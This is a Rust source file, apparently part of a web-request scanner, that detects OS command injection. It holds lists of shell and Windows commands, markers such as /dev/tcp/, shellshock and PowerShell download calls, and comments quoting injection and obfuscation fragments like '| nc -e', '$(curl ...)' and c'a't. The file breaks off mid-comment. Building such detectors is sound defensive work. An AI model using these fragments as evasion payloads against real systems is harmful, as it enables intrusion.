//! OS command injection.
//!
//! A value injects a command when a shell (or `cmd.exe`) would see a command
//! boundary followed by a command: `;id`, `| nc -e`, `` `whoami` ``, `$(curl ...)`,
//! `&& ping -n 5`. The command word is read the way a shell reads it, so quoting and
//! expansion tricks that vanish at run time (`c'a't`, `c\at`, `w$@hoami`, `c${x}url`,
//! `/bin/ca?`) are undone first. Common English words that are also commands (`cat`,
//! `find`, `echo`) need stronger evidence than rare ones (`whoami`, `wget`): a shell
//! boundary such as `|` or `` ` ``, or a shell-looking argument (`-la`, `/etc`).
//! Independent markers (`${IFS}`, shellshock `() {`, `/dev/tcp/`, `cmd /c`,
//! `Invoke-Expression`), batch `FOR /F` and `IF EXIST` constructs, and SMTP/IMAP/POP3
//! verbs injected after a line break complete the picture. A value that is a whole
//! command line with no shell syntax counts only when the command's name is one
//! prose never spells (`ansible-config`, `python3.10`, `visudo`), and directory-stack
//! tilde expansion (`~+`, `~-1`) only as a word of its own.

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use regex::Regex;

use super::{AttackClass, InjectError};

/// cmd.exe control flow: `FOR /F %%G IN (...) DO`, `for %a in (set) do`,
/// `IF /I a==b`, `IF NOT EXIST x`. Too structured for a word list. ASCII word
/// boundaries (`(?-u:\b)`) keep the regex on the fast DFA engine.
const BATCH: &str = r#"(?i)(?-u:\b)for\s+(?:/[a-z]\s+(?:"[^"]*"\s+|'[^']*'\s+|[^\s%]+\s+)?)?%%?[^\s%]+\s+in\s*\(|(?-u:\b)if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)(?-u:\b)|(?-u:\b)if(?:\s*/i\s+|\s+)(?:not\s+)?(?:"[^"]*"|\S+)\s*==\s*[^\s<]|(?-u:\b)if\s+(?:/i\s+)?(?:not\s+)?\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S"#;

/// `alias name=value`: rebinding a command name, a staple of filter evasion.
const ALIAS: &str = r#"(?i)(?-u:\b)alias\s+(?:[+-][a-z]+\+?\s+)?[!"%',.\-0-9@-Z_a-z]+=\S"#;

/// Commands that ordinary text hardly ever contains as a word of its own.
const RARE: &[&str] = &[
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "ash",
    "busybox",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "node",
    "nodejs",
    "powershell",
    "pwsh",
    "cmd",
    "ifconfig",
    "ipconfig",
    "nslookup",
    "chmod",
    "chown",
    "chgrp",
    "useradd",
    "usermod",
    "base64",
    "xxd",
    "telnet",
    "ssh",
    "scp",
    "sftp",
    "tftp",
    "rsync",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "cscript",
    "wscript",
    "systeminfo",
    "tasklist",
    "taskkill",
    "netstat",
    "sudo",
    "crontab",
    "nohup",
    "mkfifo",
    "openssl",
    "awk",
    "gawk",
    "nawk",
    "sed",
    "xargs",
    "rm",
    "cp",
    "mv",
    "mkdir",
    "rmdir",
    "ls",
    "ll",
    "pwd",
    "dig",
    "ps",
    "env",
    "printenv",
    "gzip",
    "gunzip",
    "bzip2",
    "tar",
    "unzip",
    "gcc",
    "cc",
    "chattr",
    "lsattr",
    "lsof",
    "strace",
    "ltrace",
    "nmap",
    "traceroute",
    "tracert",
    "ipconfig",
    "arp",
    "route",
    "iptables",
    "grep",
    "egrep",
    "fgrep",
    "rgrep",
    "zgrep",
    "zcat",
    "bzcat",
    "xzcat",
    "nl",
    "hexdump",
    "od",
    "base32",
    "dd",
    "shred",
    "uptime",
    "hostname",
    "getent",
    "visudo",
    "passwd",
    "whereis",
    "sysctl",
    "modprobe",
    "insmod",
    "dmesg",
    "systemctl",
    "journalctl",
    "killall",
    "pkill",
    "pgrep",
    "nice",
    "renice",
    "timeout",
    "setsid",
    "chroot",
    "runuser",
    "ftp",
    "lftp",
    "smbclient",
    "mysql",
    "psql",
    "sqlite3",
    "mongo",
    "redis-cli",
    "vi",
    "vim",
    "nano",
    "emacs",
    "jq",
    "irb",
    "tclsh",
    "wish",
    "expect",
    "gdb",
    "strings",
    "readelf",
    "objdump",
    "curlie",
    "aria2c",
    "fetch",
    "lwp-download",
    "lwp-request",
    "reg",
    "regedit",
    "sc",
    "schtasks",
    "net1",
    "icacls",
    "cacls",
    "attrib",
    "takeown",
    "whoami.exe",
    "cmd.exe",
    "powershell.exe",
    "nc.exe",
    "dsquery",
    "nltest",
    "vssadmin",
    "wevtutil",
    "msiexec",
    "installutil",
    "msbuild",
    "forfiles",
    "pcalua",
    "bash.exe",
    "wsl",
    "diskpart",
    "xcopy",
    "robocopy",
    "findstr",
    "ping6",
    "sshpass",
    "ssh-keygen",
    "unset",
    "cd",
    "c89",
    "c99",
    "iwr",
    "iwmi",
    "irm",
    "bsdtar",
    "zstdcat",
    "unxz",
    "xzcat",
    "ansible",
    // Ansible's executables, each a command line of its own.
    "ansible-config",
    "ansible-console",
    "ansible-doc",
    "ansible-galaxy",
    "ansible-inventory",
    "ansible-playbook",
    "ansible-pull",
    "ansible-vault",
    "ansible-lint",
    "ansible-test",
    "cscli",
    "flock",
    "cpulimit",
    "perf",
    "ulimit",
    "umask",
    "compgen",
    // Login records and process viewers.
    "lastlog",
    "lastlogin",
    "htop",
    "atop",
    // Package managers and configuration-management tools.
    "aptitude",
    "apt-get",
    "dpkg",
    "rpm",
    "chef-shell",
    "chef-run",
    "chef-client",
    "chef-solo",
    "knife",
    // AppArmor and SELinux switches (disabling confinement before an exploit).
    "aa-disable",
    "aa-complain",
    "aa-enforce",
    "aa-status",
    "aa-teardown",
    "setenforce",
    // Windows boot, network and policy administration.
    "bcdboot",
    "bcdedit",
    "bootcfg",
    "netsh",
    "auditpol",
    "cipher",
    "wbadmin",
    "fsutil",
];

/// Commands that are also common words: they need a strong boundary or a
/// shell-looking argument.
const COMMON: &[&str] = &[
    "cat", "find", "more", "less", "head", "tail", "echo", "ping", "kill", "sleep", "type", "dir",
    "set", "who", "time", "date", "sort", "net", "w", "last", "top", "file", "which", "locate",
    "diff", "cut", "tee", "wc", "uniq", "tr", "mount", "service", "reboot", "shutdown", "halt",
    "history", "source", "read", "test", "yes", "start", "call", "copy", "del", "erase", "ren",
    "rename", "move", "tree", "ver", "vol", "at", "print", "printf", "export", "whois", "host",
    "install", "touch", "ex", "ed", "look", "split", "join", "paste", "fold", "rev", "tac", "seq",
    "expand", "stat", "chef", "bc", "cal", "su", "make", "mail", "write", "wall", "clear", "nohup",
    "rmt", "users", "groups", "finger", "zip", "java", "go", "gem", "pip", "npm", "git", "svn",
    "apt", "yum", "dnf", "apk", "crash", "view", "script", "screen", "tmux", "watch", "xterm",
    "lynx", "links", "pico", "telnet", "exit", "logout", "sync", "true", "false", "id", "exec",
    "eval", "alias", "declare", "trap", "ip",
];

/// Privileged administration tools with no everyday meaning: a value that starts
/// with one and has only plain words after it (`visudo`, `cscli alerts list`) is a
/// command line. Language and product names (`python`, `ansible`) are topics people
/// search for ("python tutorial"), so they are not here.
const ADMIN: &[&str] = &[
    "visudo",
    "cscli",
    "useradd",
    "userdel",
    "usermod",
    "groupadd",
    "setenforce",
    "vssadmin",
    "wevtutil",
    "bcdedit",
    "auditpol",
];

/// Commands that run the command after them (`time sh -c id`, `nohup ifconfig`).
const PREFIX_COMMANDS: &[&str] = &[
    "time", "nohup", "strace", "ltrace", "sudo", "nice", "timeout", "env", "exec", "xargs",
    "watch", "chroot", "setsid", "stdbuf", "cpulimit",
];

/// Markers that mean shell or cmd.exe syntax on their own.
const MARKERS: &[(&str, &str)] = &[
    ("${ifs", "$IFS"),
    ("$ifs", "$IFS"),
    ("() {", "shellshock"),
    ("(){", "shellshock"),
    ("/dev/tcp/", "/dev/tcp"),
    ("/dev/udp/", "/dev/udp"),
    ("/bin/sh", "shell path"),
    ("/bin/bash", "shell path"),
    ("/bin/zsh", "shell path"),
    ("/bin/busybox", "shell path"),
    ("/usr/bin/env ", "shell path"),
    ("cmd /c", "cmd /c"),
    ("cmd.exe /c", "cmd /c"),
    ("cmd /k", "cmd /c"),
    ("%comspec%", "%COMSPEC%"),
    ("invoke-expression", "powershell"),
    ("invoke-webrequest", "powershell"),
    ("invoke-command", "powershell"),
    ("invoke-item", "powershell"),
    ("invoke-restmethod", "powershell"),
    ("start-process", "powershell"),
    ("new-object", "powershell"),
    ("downloadstring(", "powershell"),
    ("downloadfile(", "powershell"),
    ("-encodedcommand", "powershell"),
    ("get-content", "powershell"),
    ("get-childitem", "powershell"),
    ("set-content", "powershell"),
    ("iex(", "powershell"),
    ("for /f", "batch for"),
    ("for /l", "batch for"),
    ("for /d", "batch for"),
    ("for /r", "batch for"),
    ("for %%", "batch for"),
    ("if exist", "batch if"),
    ("if not exist", "batch if"),
    ("if /i", "batch if"),
    ("if defined", "batch if"),
    ("if errorlevel", "batch if"),
    ("if not defined", "batch if"),
    ("<<<", "here-string"),
    ("{jndi:", "jndi lookup"),
    ("${::-", "jndi lookup"),
    ("${shell}", "$SHELL"),
    ("$shell ", "$SHELL"),
    ("iex (", "powershell"),
];

/// Mail protocol verbs that matter after an injected line break (SMTP, IMAP, POP3).
const MAIL_VERBS: &[&str] = &[
    "ehlo",
    "helo",
    "mail from",
    "rcpt to",
    "data",
    "auth",
    "starttls",
    "rset",
    "vrfy",
    "expn",
    "retr",
    "dele",
    "top",
    "list",
    "stat",
    "uidl",
    "apop",
    "user",
    "pass",
    "quit",
    "capa",
    "noop",
];

/// IMAP commands (after a tag such as `a001 `).
const IMAP_VERBS: &[&str] = &[
    "login",
    "authenticate",
    "select",
    "examine",
    "create",
    "delete",
    "rename",
    "subscribe",
    "list",
    "lsub",
    "status",
    "append",
    "check",
    "close",
    "expunge",
    "search",
    "fetch",
    "store",
    "copy",
    "uid",
    "logout",
    "capability",
    "noop",
];

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Boundary {
    /// `` ` ``, `$(`, `<(`, `>(`: command substitution, the next word is a command.
    Subst,
    /// `|`, `||`, `&&`, a line break: only a shell uses these.
    Strong,
    /// `;` and a single `&`: also punctuation and parameter separators.
    Weak,
    /// The start of the value.
    Start,
}

pub struct Scanner {
    lexicon: Vec<(String, Strength)>,
    markers: AhoCorasick,
    batch: Regex,
    alias: Regex,
}

impl std::fmt::Debug for Scanner {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("command::Scanner").finish_non_exhaustive()
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Strength {
    Rare,
    Common,
}

/// The command lexicon, lowercase and sorted for binary search: a lookup runs for
/// every word after a boundary, so it must not scan ~400 names.
fn lexicon() -> Vec<(String, Strength)> {
    let mut words: Vec<(String, Strength)> = COMMON
        .iter()
        .map(|w| (w.to_ascii_lowercase(), Strength::Common))
        .chain(
            RARE.iter()
                .map(|w| (w.to_ascii_lowercase(), Strength::Rare)),
        )
        .collect();
    // Rare wins when a word is in both lists: sort by name, rare first, dedup.
    words.sort_by(|a, b| {
        a.0.cmp(&b.0)
            .then((a.1 == Strength::Common).cmp(&(b.1 == Strength::Common)))
    });
    words.dedup_by(|later, earlier| later.0 == earlier.0);
    words
}

impl Scanner {
    fn lookup(&self, word: &str) -> Option<Strength> {
        let mut buf = [0u8; 24];
        let lower = buf.get_mut(..word.len())?;
        lower.copy_from_slice(word.as_bytes());
        lower.make_ascii_lowercase();
        let lower = std::str::from_utf8(lower).ok()?;
        self.lexicon
            .binary_search_by(|(name, _)| name.as_str().cmp(lower))
            .ok()
            .and_then(|i| self.lexicon.get(i))
            .map(|(_, strength)| *strength)
    }
}

fn at(bytes: &[u8], i: usize) -> u8 {
    bytes.get(i).copied().unwrap_or(0)
}

impl Scanner {
    /// A value that names a command by its binary directory: `bin/ansible`,
    /// `/usr/sbin/visudo`, `/usr/local/bin/cscli`. Only lexicon commands, so a
    /// pastebin URL (`/bin/x7Gq2`) passes.
    fn binary_path(&self, bytes: &[u8]) -> Option<(&'static str, usize)> {
        let text = bytes.trim_ascii();
        let lead = bytes.len() - bytes.trim_ascii_start().len();
        let rest = text.strip_prefix(b"/").unwrap_or(text);
        let rest = rest
            .strip_prefix(b"usr/local/")
            .or_else(|| rest.strip_prefix(b"usr/"))
            .unwrap_or(rest);
        let name = rest
            .strip_prefix(b"bin/")
            .or_else(|| rest.strip_prefix(b"sbin/"))?;
        let end = name
            .iter()
            .position(|b| matches!(b, b' ' | b'\t' | b';' | b'|' | b'&'))
            .unwrap_or(name.len());
        let name = std::str::from_utf8(name.get(..end)?).ok()?;
        self.lookup(name).map(|_| ("binary path", lead))
    }

    /// Bash brace expansion that assembles a command: `{l,-lh}s` (`ls -lhs`),
    /// `c{a,oun}t` (`cat count`), `{,ifconfig}`. Counts when the first expanded
    /// word is a command and the braces do work a list would not: an empty
    /// alternative, letters glued outside the braces, or an option. `{id,name}`
    /// (a field list) does none of these.
    fn brace_expansion(&self, bytes: &[u8]) -> Option<(&'static str, usize)> {
        let mut from = 0;
        while let Some(p) = bytes
            .get(from..)
            .and_then(|r| r.iter().position(|b| *b == b'{'))
        {
            let open = from + p;
            from = open + 1;
            let Some(len) = bytes
                .get(open + 1..)
                .and_then(|r| r.iter().take(64).position(|b| *b == b'}'))
            else {
                continue;
            };
            let close = open + 1 + len;
            let body = bytes.get(open + 1..close).unwrap_or(&[]);
            // `{,echo,#test}`, `{,$'whoami',}`: an empty first alternative (only
            // bash writes `{,`) and a command, spelled with anything a word holds.
            if let Some(rest) = body.strip_prefix(b",")
                && !body.iter().any(u8::is_ascii_whitespace)
            {
                let alt = rest.split(|b| *b == b',').next().unwrap_or(&[]);
                let name: Vec<u8> = alt
                    .iter()
                    .copied()
                    .filter(|b| !matches!(b, b'$' | b'\'' | b'"'))
                    .collect();
                if std::str::from_utf8(&name)
                    .is_ok_and(|w| !w.is_empty() && self.lookup(w).is_some())
                {
                    return Some(("brace expansion", open));
                }
            }
            if !body.contains(&b',')
                || !body
                    .iter()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b',' | b'-' | b'.' | b'_'))
            {
                continue;
            }
            let prefix_start = bytes
                .get(..open)
                .unwrap_or(&[])
                .iter()
                .rposition(|b| !b.is_ascii_alphanumeric())
                .map_or(0, |q| q + 1);
            let prefix = bytes.get(prefix_start..open).unwrap_or(&[]);
            let suffix_len = bytes
                .get(close + 1..)
                .unwrap_or(&[])
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric())
                .count();
            let suffix = bytes.get(close + 1..close + 1 + suffix_len).unwrap_or(&[]);
            let alternatives = body.split(|b| *b == b',');
            let mut first: Option<Vec<u8>> = None;
            let mut empty = false;
            let mut option = false;
            for alt in alternatives {
                if alt.is_empty() && prefix.is_empty() && suffix.is_empty() {
                    empty = true;
                    continue;
                }
                option |= alt.first() == Some(&b'-');
                if first.is_none() {
                    first = Some([prefix, alt, suffix].concat());
                }
            }
            let glued = !prefix.is_empty() || !suffix.is_empty();
            let Some(first) = first else { continue };
            let is_command = std::str::from_utf8(&first)
                .ok()
                .is_some_and(|w| self.lookup(w).is_some());
            if is_command && (empty || glued || option) {
                return Some(("brace expansion", open));
            }
        }
        None
    }

    pub fn new() -> Result<Self, InjectError> {
        let class = AttackClass::CommandInjection;
        let markers = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostFirst)
            .build(MARKERS.iter().map(|(p, _)| *p))
            .map_err(|source| InjectError::Build { class, source })?;
        let regex = |pattern: &str| {
            Regex::new(pattern).map_err(|source| InjectError::Pattern { class, source })
        };
        Ok(Self {
            lexicon: lexicon(),
            markers,
            batch: regex(BATCH)?,
            alias: regex(ALIAS)?,
        })
    }

    /// Scan one URL-decoded value.
    pub fn scan(&self, text: &str) -> Option<(&'static str, usize)> {
        if let Some(m) = self.markers.find(text) {
            return MARKERS
                .get(m.pattern().as_usize())
                .map(|(_, reason)| (*reason, m.start()));
        }
        if let Some(m) = self.batch.find(text) {
            return Some(("batch control flow", m.start()));
        }
        if let Some(m) = self.alias.find(text) {
            return Some(("shell alias", m.start()));
        }
        if let Some(hit) = expansion(text.as_bytes())
            .or_else(|| history(text.as_bytes()))
            .or_else(|| tilde_expansion(text.as_bytes()))
        {
            return Some(hit);
        }
        if let Some(hit) = self
            .brace_expansion(text.as_bytes())
            .or_else(|| self.binary_path(text.as_bytes()))
        {
            return Some(hit);
        }
        let bytes = text.as_bytes();
        if let Some(hit) = self.command_after(bytes, 0, Boundary::Start) {
            return Some(hit);
        }
        let table_rows = markdown_table_rows(bytes);
        let mut row = 0;
        let mut i = 0;
        while i < bytes.len() {
            let b = at(bytes, i);
            let next = at(bytes, i + 1);
            let (boundary, width) = match b {
                // A Markdown table's `|` separates cells: each cell is read
                // as a value of its own (`| ls | lists files |` is
                // documentation; `| cat /etc/passwd |` still a command line).
                b'|' if let Some(end) = table_cell_end(&table_rows, &mut row, bytes, i) => {
                    let cell = bytes.get(i + 1..end).unwrap_or_default();
                    if let Some(hit) = self.command_after(cell, 0, Boundary::Start) {
                        return Some((hit.0, i + 1 + hit.1));
                    }
                    // The cell's own `;`, `$(` ... are read as usual.
                    i += 1;
                    continue;
                }
                b'`' if let Some(close) = markdown_code_span(bytes, i) => {
                    i = close + 1;
                    continue;
                }
                // A run of backticks: each position would read the same
                // word after the run (pairs are empty substitutions), so
                // look from its first two positions (either parity) and go
                // past it; from every position was quadratic (64 KiB: 1.8 s).
                b'`' if at(bytes, i + 1) == b'`' && at(bytes, i + 2) == b'`' => {
                    for from in [i, i + 1] {
                        if let Some(hit) = self.command_after(bytes, from + 1, Boundary::Subst) {
                            return Some((hit.0, from));
                        }
                    }
                    while at(bytes, i) == b'`' {
                        i += 1;
                    }
                    continue;
                }
                b'`' => (Boundary::Subst, 1),
                b'$' if next == b'(' => (
                    Boundary::Subst,
                    if at(bytes, i + 2) == b'(' { 3 } else { 2 },
                ),
                b'<' | b'>' if next == b'(' => (Boundary::Subst, 2),
                b'|' if next == b'|' => (Boundary::Strong, 2),
                b'|' => (Boundary::Strong, 1),
                b'&' if next == b'&' => (Boundary::Strong, 2),
                b'&' => (Boundary::Weak, 1),
                b';' => (Boundary::Weak, 1),
                b'\n' | b'\r' | b'{' => {
                    // A run of line breaks and braces: the same word follows
                    // every position of it, so one look from its end, as
                    // strong as its strongest boundary. Looking from each
                    // position re-skipped the rest of the run: 64 KiB of
                    // line breaks took 1.5 s.
                    let run = i;
                    let mut strong = false;
                    while let b @ (b'\n' | b'\r' | b'{') = at(bytes, i) {
                        let line_start =
                            b != b'{' && !matches!(at(bytes, i.wrapping_sub(1)), b'\n' | b'\r');
                        if line_start && let Some(hit) = mail_verb(bytes, i) {
                            return Some(hit);
                        }
                        strong |= b != b'{';
                        i += 1;
                    }
                    let boundary = if strong {
                        Boundary::Strong
                    } else {
                        Boundary::Weak
                    };
                    if let Some(hit) = self.command_after(bytes, i, boundary) {
                        return Some((hit.0, run));
                    }
                    continue;
                }
                _ => {
                    i += 1;
                    continue;
                }
            };
            if let Some(hit) = self.command_after(bytes, i + width, boundary) {
                return Some((hit.0, i));
            }
            i += width;
        }
        glob_path(bytes).or_else(|| bracket_glob(bytes))
    }

    fn command_after(
        &self,
        bytes: &[u8],
        i: usize,
        boundary: Boundary,
    ) -> Option<(&'static str, usize)> {
        self.command_after_depth(bytes, i, boundary, 0)
    }

    /// Read a command word starting at `i` as a shell would, and decide. `depth` is 1
    /// when looking at the command after a prefix command (`time`, `nohup`).
    fn command_after_depth(
        &self,
        bytes: &[u8],
        i: usize,
        boundary: Boundary,
        depth: u8,
    ) -> Option<(&'static str, usize)> {
        let mut i = i;
        // Blanks and grouping before the command: `; (id)`, `| { id; }`, `! id`.
        let mut spacer = false;
        loop {
            while matches!(
                at(bytes, i),
                b' ' | b'\t' | b'\n' | b'\r' | b'(' | b'{' | b'!' | b'@'
            ) {
                i += 1;
            }
            // `|$u wget`: an unset variable before the command expands to nothing.
            if boundary != Boundary::Start
                && at(bytes, i) == b'$'
                && at(bytes, i + 1).is_ascii_alphabetic()
            {
                let mut j = i + 1;
                while at(bytes, j).is_ascii_alphanumeric() || at(bytes, j) == b'_' {
                    j += 1;
                }
                if matches!(at(bytes, j), b' ' | b'\t') {
                    spacer = true;
                    i = j;
                    continue;
                }
            }
            break;
        }
        let start = i;
        let mut word = [0u8; 24];
        let mut len = 0usize;
        let mut obfuscated = spacer;
        let mut path = false;
        let mut switch = false;
        let mut quoted = false;
        let brace = start > 0 && at(bytes, start - 1) == b'{';
        loop {
            let b = at(bytes, i);
            match b {
                // `I'd like`, `don't`: an English contraction, whose quote (the
                // word's first: `c'a't` closes one) would open a string no
                // shell closes. Prose, not a quoted `id`.
                b'\''
                    if len > 0
                        && !quoted
                        && at(bytes, i.wrapping_sub(1)).is_ascii_alphabetic()
                        && contraction(bytes, i + 1) =>
                {
                    return None;
                }
                b'\'' | b'"' => {
                    // Quoting inside a word vanishes: `c'a't`, `w"h"o`. Quotes around a
                    // whole word (`"TRUE"`) prove nothing.
                    if len > 0 {
                        quoted = true;
                    }
                    i += 1;
                }
                // Empty substitutions vanish from the word: `pi``ng`, `pi$()ng`,
                // `ping<()`.
                b'`' if at(bytes, i + 1) == b'`' => {
                    obfuscated = true;
                    i += 2;
                }
                b'$' | b'<' | b'>' if at(bytes, i + 1) == b'(' && at(bytes, i + 2) == b')' => {
                    obfuscated = true;
                    i += 3;
                }
                b'\\' if at(bytes, i + 1).is_ascii_alphanumeric() => {
                    obfuscated = true;
                    i += 1;
                }
                b'$' if matches!(
                    at(bytes, i + 1),
                    b'@' | b'*' | b'_' | b'?' | b'!' | b'#' | b'-'
                ) || at(bytes, i + 1).is_ascii_digit() =>
                {
                    obfuscated = true;
                    i += 2;
                }
                b'$' if at(bytes, i + 1) == b'{' => {
                    // `${x}` or `${gcc7.4}`: an (empty) expansion inside the word.
                    // Looked for within the 32 bytes it may span: `${${${...`
                    // with no `}` read to the end at every `{` (quadratic).
                    let close = bytes
                        .get(i..)
                        .and_then(|r| r.iter().take(32).position(|c| *c == b'}'));
                    match close {
                        Some(p) if p < 32 => {
                            obfuscated = true;
                            i += p + 1;
                        }
                        _ => break,
                    }
                }
                b'$' if len > 0 && at(bytes, i + 1).is_ascii_alphabetic() => {
                    // `cat$u`: an unset variable glued to the word.
                    obfuscated = true;
                    i += 1;
                    while at(bytes, i).is_ascii_alphanumeric() || at(bytes, i) == b'_' {
                        i += 1;
                    }
                }
                b'/' if len > 0
                    && at(bytes, i + 1).is_ascii_alphabetic()
                    && !at(bytes, i + 2).is_ascii_alphanumeric()
                    && word
                        .get(..len)
                        .and_then(|w| std::str::from_utf8(w).ok())
                        .is_some_and(|w| self.lookup(w).is_some()) =>
                {
                    // `bcdboot/r`: a cmd.exe switch glued to the command.
                    switch = true;
                    break;
                }
                b'/' => {
                    // `/bin/cat`, `/usr/bin/id`: keep the last segment.
                    path = true;
                    len = 0;
                    i += 1;
                }
                b'?' | b'*' if path || boundary != Boundary::Start => {
                    // `/bin/ca?`, `;c?t`: a glob that the shell resolves to a command.
                    let rest = bytes.get(i..).unwrap_or(&[]);
                    let glob_len = rest
                        .iter()
                        .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'?' | b'*')))
                        .unwrap_or(rest.len());
                    let head = word.get(..len).unwrap_or(&[]);
                    let tail = rest.get(..glob_len).unwrap_or(&[]);
                    let literal = !head.is_empty() || tail.iter().any(u8::is_ascii_alphanumeric);
                    let matched = literal
                        && RARE.iter().chain(COMMON).any(|name| {
                            name.len() > 1 && glob_matches(head, tail, name.as_bytes())
                        });
                    return matched.then_some(("globbed command", start));
                }
                _ if b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.') => {
                    // A quote with letters on both sides: `c'a't`, `""p""y""`.
                    if quoted {
                        obfuscated = true;
                    }
                    if let Some(slot) = word.get_mut(len) {
                        *slot = b;
                        len += 1;
                    } else {
                        return None;
                    }
                    i += 1;
                }
                _ => break,
            }
        }
        if len == 0 {
            return None;
        }
        let word = std::str::from_utf8(word.get(..len)?).ok()?;
        let word = word.strip_suffix(".exe").unwrap_or(word);
        // `python3.10`, `php7`: versioned binaries; `ansible-config`: tool families.
        let direct = self.lookup(word);
        let mut dotted_version = false;
        let strength = direct
            .or_else(|| {
                let base = word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
                if base.len() < word.len() && base.len() > 1 {
                    dotted_version = word.get(base.len()..).is_some_and(|v| v.contains('.'));
                    self.lookup(base)
                } else {
                    None
                }
            })
            .or_else(|| {
                let (family, _) = word.split_once('-')?;
                (family.len() > 2).then(|| self.lookup(family)).flatten()
            })?;
        let after = at(bytes, i);
        if after == b',' {
            // Bash brace expansion `{cat,/etc/passwd}`; elsewhere a list ("gzip, br").
            // `{cat,/etc/passwd}` runs cat; `{id,name}` is a field list.
            let argument = matches!(at(bytes, i + 1), b'/' | b'-' | b'~' | b'.' | b'$');
            return (brace && (strength == Strength::Rare || argument))
                .then_some(("brace expansion", start));
        }
        // `id=5`, `type=json`: a parameter or assignment, not a command. `cmd,arg}`
        // is bash brace expansion and counts.
        if after == b'=' || (after == b':' && at(bytes, i + 1) != b'\\') {
            return None;
        }
        if after.is_ascii_alphanumeric() || after >= 0x80 {
            return None;
        }
        let arg = switch || shell_argument(bytes, i);
        let end = arg_end(bytes, i);
        // Glued to a strong boundary (`127.0.0.1|sleep 5`, `&&cat x.php`):
        // no blank between, as injected commands are written and prose is not.
        let glued = matches!(at(bytes, start.wrapping_sub(1)), b'|' | b'&');
        let decided = match (boundary, strength) {
            (Boundary::Subst, _) => true,
            // A line opening with a capitalised word ("Python is not
            // starting", "Expect delays"): a sentence, unless shell syntax
            // follows.
            (Boundary::Strong, Strength::Rare) => {
                !(after_line_break(bytes, start) && capitalised(word))
                    || arg
                    || end
                    || obfuscated
                    || path
            }
            (Boundary::Strong, Strength::Common) => {
                arg || end || obfuscated || path || (glued && plain_argument(bytes, i))
            }
            (Boundary::Weak, Strength::Rare) => {
                arg || end || obfuscated || path || plain_argument(bytes, i)
            }
            // "time; date; place": a list, not `;date;` (a `;` right after the word
            // only counts when a `;` also precedes it).
            (Boundary::Weak, Strength::Common) => {
                (arg && (at(bytes, i) != b';' || at(bytes, start.saturating_sub(1)) == b';'))
                    || obfuscated
                    || path
                    || (end && at(bytes, start.saturating_sub(1)) == b';')
                    // A timing probe glued to `;` (`127.0.0.1;sleep 5`, `;ping
                    // 10.0.0.1`): a number for argument, and nothing after it.
                    || (at(bytes, start.wrapping_sub(1)) == b';' && numeric_argument(bytes, i))
            }
            // A value that *is* a command line: the arguments must look like one.
            (Boundary::Start, _) => {
                start_argument(bytes, i)
                    || (strength == Strength::Rare && later_option(bytes, i))
                    || (strength == Strength::Rare && glued_separator(bytes, i))
                    || (command_line_name(word, direct.is_some(), dotted_version)
                        && (arg_end(bytes, i) || plain_argument(bytes, i)))
                    || obfuscated
                    // A prefix command running a shell: `time sh -c id`, `nohup bash -i`.
                    || (matches!(at(bytes, i), b' ' | b'\t' | b'+')
                        && depth == 0
                        && PREFIX_COMMANDS.iter().any(|p| p.eq_ignore_ascii_case(word))
                        && self.command_after_depth(bytes, i, Boundary::Start, 1).is_some())
                    // The command after a prefix command: `time ifconfig`.
                    || (depth == 1 && strength == Strength::Rare && arg_end(bytes, i))
            }
        };
        decided.then_some(("command after shell boundary", start))
    }
}

/// The lines of a value that are rows of a Markdown table, as `(start, end)`
/// byte ranges in order: lines that open and close with `|`, in a value that
/// has a delimiter row (`|---|:--:|`), as GitHub's tables must. Empty
/// (no allocation) for a value with no such row.
fn markdown_table_rows(bytes: &[u8]) -> Vec<(usize, usize)> {
    // Two memchr passes keep most values out of the line pass.
    if !bytes.contains(&b'|') || !bytes.contains(&b'-') {
        return Vec::new();
    }
    let lines = || {
        let mut start = 0;
        bytes
            .split(|b| matches!(b, b'\n' | b'\r'))
            .map(move |line| {
                let at = start;
                start += line.len() + 1;
                (at, line)
            })
    };
    let trim = |line: &[u8]| -> (usize, usize) {
        let first = line.iter().position(|b| !matches!(b, b' ' | b'\t'));
        let last = line.iter().rposition(|b| !matches!(b, b' ' | b'\t'));
        first.zip(last).map_or((0, 0), |(f, l)| (f, l + 1))
    };
    let delimiter = lines().any(|(_, line)| {
        let (f, l) = trim(line);
        let row = line.get(f..l).unwrap_or_default();
        row.len() >= 3
            && row.first() == Some(&b'|')
            && row.contains(&b'-')
            && row
                .iter()
                .all(|b| matches!(b, b'|' | b'-' | b':' | b' ' | b'\t'))
    });
    if !delimiter {
        return Vec::new();
    }
    lines()
        .filter_map(|(at, line)| {
            let (f, l) = trim(line);
            (l >= f + 2 && line.get(f) == Some(&b'|') && line.get(l - 1) == Some(&b'|'))
                .then_some((at + f, at + l))
        })
        .collect()
}

/// If the `|` at `i` opens a cell of a table row, the index of the `|` that
/// closes the cell. `row` is a cursor into `rows`, moved forward as `i` grows.
fn table_cell_end(
    rows: &[(usize, usize)],
    row: &mut usize,
    bytes: &[u8],
    i: usize,
) -> Option<usize> {
    while rows.get(*row).is_some_and(|&(_, end)| end <= i) {
        *row += 1;
    }
    let &(start, end) = rows.get(*row)?;
    if i < start || i + 1 >= end {
        return None;
    }
    bytes
        .get(i + 1..end)?
        .iter()
        .position(|&b| b == b'|')
        .map(|at| i + 1 + at)
}

/// A backtick that opens a Markdown code span inside prose ("run `ls -la` and
/// paste the output"): a word and a blank before it, and the closing backtick
/// followed by a blank and a word or by sentence punctuation. Injected substitutions are glued to the value
